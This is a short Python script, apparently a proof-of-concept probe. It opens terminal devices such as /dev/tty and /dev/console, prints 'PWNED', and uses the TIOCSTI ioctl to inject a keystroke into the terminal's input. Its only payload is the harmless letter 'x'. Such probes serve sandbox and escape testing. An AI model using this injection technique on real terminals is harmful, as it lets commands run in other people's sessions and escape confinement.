"""Looks for a terminal to type into, or to write to."""
import fcntl
import os
import termios

for name in ("/dev/tty", "/dev/pts/0", "/dev/console", "/proc/self/fd/0", "/proc/self/fd/2"):
    try:
        number = os.open(name, os.O_RDWR | os.O_NOCTTY)
        if os.isatty(number):
            print("PWNED", name)
            fcntl.ioctl(number, termios.TIOCSTI, b"x")
    except OSError:
        continue
print("TRIED", [os.isatty(n) for n in (0, 1, 2)])
